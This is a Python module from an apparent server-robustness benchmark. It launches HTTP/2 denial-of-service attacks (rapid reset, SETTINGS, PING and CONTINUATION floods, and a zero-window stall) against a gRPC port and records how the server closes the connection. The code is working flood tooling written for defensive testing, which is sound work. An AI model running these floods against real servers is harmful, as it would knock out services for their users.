"""HTTP/2 frames: rapid reset, SETTINGS and PING floods, CONTINUATION floods, zero-window stalls.

Each attack has a connection of its own (``wire.RawH2``: ``h2`` writes the preface, the frames are
written raw) to the gRPC port, sends at a set rate in 10 ms ticks, stops when the server sends GOAWAY
or closes, and counts what became of the connection (``GOAWAY <code> after S s``, ``closed after S s``
or ``open``) with the rate it reached. A server that answers the abuse at the connection closes it
within about a second; the other clients (the bystander) must see nothing.
"""

from __future__ import annotations

import asyncio
import time
from collections.abc import Callable

import h2.settings
import numpy as np

from benchmarks import calls
from benchmarks.attacks import wire
from benchmarks.attacks.harness import Attack, ClassRun, in_turn
from benchmarks.attacks.send import open_raw
from boaf.game import random_states
from boaf.v1 import boaf_pb2 as pb

TICK_S = 0.01
RAPID_RESET_RATE = 10_000  # HEADERS + RST_STREAM pairs a second on one connection
CLOSED_WITHIN_S = 1.0  # a connection answered at the connection is gone within this


async def flood(
    connection: wire.RawH2, batch: Callable[[int], bytes], rate: float, seconds: float
) -> tuple[int, float]:
    """Write ``batch(n)`` (n units) every tick to reach ``rate`` units a second for ``seconds``, until gone.

    Returns (units sent, seconds taken). A server that stops reading slows the rate: ``drain`` waits.
    """
    started = time.perf_counter()
    sent = 0
    while not connection.gone and (elapsed := time.perf_counter() - started) < seconds:
        due = int(rate * (elapsed + TICK_S)) - sent
        if due > 0:
            connection.write(batch(due))
            sent += due
            if not await connection.drain(TICK_S * 50):
                await asyncio.sleep(0)  # the server is not reading; try again next tick
        await asyncio.sleep(max(0.0, started + (sent / rate) - time.perf_counter()))
    return sent, time.perf_counter() - started


async def _flood_attack(
    ctx: ClassRun, label: str, batch: Callable[[wire.RawH2, int], bytes], rate: float, seconds: float
) -> wire.RawH2:
    connection = await open_raw(ctx)
    try:
        sent, took = await flood(connection, lambda n: batch(connection, n), rate, seconds)
        await connection.wait_gone(CLOSED_WITHIN_S)
        ctx.count(label, connection.outcome().split(" after ")[0])
        ctx.note(f"{label}: {sent:,} sent in {took:.1f} s ({sent / took:,.0f}/s), connection {connection.outcome()}")
    finally:
        await connection.close()
    return connection


async def rapid_reset(ctx: ClassRun) -> None:
    """HEADERS then RST_STREAM(CANCEL) on new streams, ``RAPID_RESET_RATE`` a second, on one connection."""
    seconds = ctx.size(20, 2)
    label = f"rapid reset ({RAPID_RESET_RATE:,}/s for {seconds} s)"
    block = None

    def pairs(connection: wire.RawH2, n: int) -> bytes:
        nonlocal block
        block = block or connection.header_block(wire.CLASSIFY)
        out = []
        for _ in range(n):
            stream = connection.new_stream()
            out.append(wire.frame(wire.HEADERS, wire.END_HEADERS, stream, block))
            out.append(wire.frame(wire.RST_STREAM, 0, stream, wire.CANCEL.to_bytes(4, "big")))
        return b"".join(out)

    connection = await _flood_attack(ctx, label, pairs, RAPID_RESET_RATE, seconds)
    gone = connection.goaway_at or connection.closed_at
    within = gone is not None and gone - connection.opened_at <= CLOSED_WITHIN_S + 0.5
    ctx.note(f"rapid reset: the connection was {'' if within else 'NOT '}closed within {CLOSED_WITHIN_S:g} s")


async def settings_flood(ctx: ClassRun) -> None:
    """SETTINGS frames (each with a seeded INITIAL_WINDOW_SIZE or empty), each asking for an ACK."""
    rate, seconds = ctx.size(50_000, 20_000), ctx.size(10, 1)
    rng = ctx.rng

    def settings(_: wire.RawH2, n: int) -> bytes:
        values = rng.integers(0, 2**31 - 1, n)
        return b"".join(
            wire.frame(wire.SETTINGS, 0, 0, (0x4).to_bytes(2, "big") + int(v).to_bytes(4, "big") if v % 2 else b"")
            for v in values
        )

    await _flood_attack(ctx, f"SETTINGS flood ({rate:,}/s for {seconds} s)", settings, rate, seconds)


async def ping_flood(ctx: ClassRun) -> None:
    """PING frames with seeded payloads, each asking for a PING ACK."""
    rate, seconds = ctx.size(50_000, 20_000), ctx.size(10, 1)
    rng = ctx.rng

    def pings(_: wire.RawH2, n: int) -> bytes:
        payloads = rng.integers(0, 256, (n, 8), dtype=np.uint8)
        return b"".join(wire.frame(wire.PING, 0, 0, bytes(p)) for p in payloads)

    await _flood_attack(ctx, f"PING flood ({rate:,}/s for {seconds} s)", pings, rate, seconds)


async def continuation_flood(ctx: ClassRun) -> None:
    """A HEADERS without END_HEADERS, then CONTINUATION frames of seeded header fields that never end."""
    megabytes, seconds = ctx.size(64, 4), ctx.size(10, 1)
    piece = int(ctx.rng.choice([1024, 4096, 16_384]))
    names = [f"x-{i}".encode() for i in range(64)]
    value = piece - 16  # an HPACK literal, never indexed, new name; its value's length is 127 then the rest
    fields = [b"\x10" + bytes((len(n),)) + n + b"\x7f" + wire.varint(value - 127) + b"a" * value for n in names]
    stream = 0

    def continuations(connection: wire.RawH2, n: int) -> bytes:
        nonlocal stream
        out = []
        if not stream:
            stream = connection.new_stream()
            out.append(wire.frame(wire.HEADERS, 0, stream, connection.header_block(wire.CLASSIFY)))
        out += [wire.frame(wire.CONTINUATION, 0, stream, fields[i % len(fields)]) for i in range(n)]
        return b"".join(out)

    rate = megabytes * 1024 * 1024 / piece / seconds
    await _flood_attack(
        ctx, f"CONTINUATION flood ({megabytes} MiB in {piece:,}-byte frames)", continuations, rate, seconds
    )


async def zero_window_stall(ctx: ClassRun) -> None:
    """Streams asking for large answers on a connection whose receive window is 0: the answers cannot leave."""
    streams, states, seconds = ctx.size(64, 8), ctx.size(2_000, 200), ctx.size(20, 3)
    connection = await open_raw(ctx, {h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 0})
    label = f"zero-window stall ({streams} streams of Features of {states:,} states, {seconds} s)"
    cells = [calls.state_to_proto(s) for s in random_states(int(ctx.rng.integers(1 << 30)), states)]
    message = wire.grpc_message(pb.FeaturesRequest(states=cells).SerializeToString())
    try:
        answers = await asyncio.gather(*(connection.unary(wire.FEATURES, message, [], seconds) for _ in range(streams)))
        for answer in answers:
            ctx.count(label, answer.code or "none")
        ctx.note(f"{label}: connection {connection.outcome()}")
    finally:
        await connection.close()


async def run(ctx: ClassRun) -> None:
    """Each frame attack on a connection of its own, one after the other."""
    await in_turn(ctx, rapid_reset, settings_flood, ping_flood, continuation_flood, zero_window_stall)


ATTACK = Attack("HTTP/2 frames", "rapid reset, SETTINGS, PING and CONTINUATION floods, zero-window stall", run)
